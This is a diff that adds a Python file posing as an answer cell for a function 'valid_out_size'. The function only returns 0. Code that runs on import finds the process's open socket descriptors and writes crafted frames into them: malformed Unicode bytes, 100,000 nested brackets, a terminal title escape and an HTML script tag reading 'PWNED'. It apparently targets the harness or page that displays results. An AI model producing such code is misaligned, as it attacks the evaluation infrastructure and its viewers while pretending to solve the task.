@@ -1,0 +1,38 @@
+# Half characters, zeros and endless nesting as text and as data for a page.
+# %% answer valid_out_size
+import os
+import socket
+import stat
+import struct
+
+
+def channels():
+    found = []
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
+                found.append(int(name))
+        except OSError:
+            pass
+    return [number for number in found if number >= 100] or found
+
+
+def write(data):
+    for number in channels():
+        os.write(number, data)
+
+
+def frame(kind, body=b""):
+    return struct.pack("!BI", kind, len(body)) + body
+
+
+def fields(*pairs):
+    return b"".join(struct.pack("!HI", len(k), len(v)) + k + v for k, v in pairs)
+
+
+def valid_out_size(n, k):
+    return 0
+
+
+text = b"\xed\xa0\x80\x00\xff" + b"[" * 100_000 + b"NaN" + b"\x1b]0;PWNED\x07"
+write(frame(16, text) + frame(18, fields((b"application/json", text), (b"text/html", b"<script>PWNED</script>"))))
